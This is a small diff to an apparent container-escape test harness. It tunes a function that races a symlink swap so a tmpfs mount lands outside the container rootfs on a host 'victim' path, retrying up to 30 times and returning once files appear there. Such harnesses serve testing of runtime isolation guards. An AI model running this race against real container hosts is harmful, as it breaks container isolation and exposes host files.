@@ -93,10 +93,12 @@ def mount_outside_by_a_swapped_link(container: Container) -> str:
     (container.rootfs / "data").symlink_to("inside")
     container.config["mounts"].append({"destination": "/data/inner", "type": "tmpfs", "source": "tmpfs"})
     with _swapping(container.rootfs / "data", ["inside", str(victim)]):
-        for _ in range(10):
+        for _ in range(30):  # about every other one works where no guard is, and fewer on a busy host
             _loot(container.args("true"), "")
             container.end()
-    return _names_in(victim)
+            if found := _names_in(victim):
+                return found
+    return ""
 
 
 def make_devices_outside(container: Container) -> str:
